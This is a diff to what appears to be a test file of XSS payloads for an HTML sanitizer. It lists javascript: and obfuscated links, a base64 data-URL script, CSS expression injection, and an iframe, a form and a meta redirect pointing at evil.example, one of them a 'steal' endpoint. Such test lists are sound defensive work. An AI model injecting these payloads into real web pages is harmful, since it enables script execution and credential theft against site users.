@@ -16,7 +16,7 @@ const PAYLOADS = [
   '<a href="javascript:alert(\'s4\')">click me</a>',
   '<a href="JaVaScRiPt&#58;alert(\'s5\')">click too</a>',
   '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
-  '<p style="background:url(javascript:alert(\'s6\'));width:expression(alert(\'s7\'))">styled text</p>',
+  "<p style=\"background:url(javascript:alert('s6'));width:expression(alert('s7'))\">styled text</p>",
   '<iframe src="https://evil.example/"></iframe>',
   '<form action="https://evil.example/steal"><input name="p"><button>Go</button></form>',
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
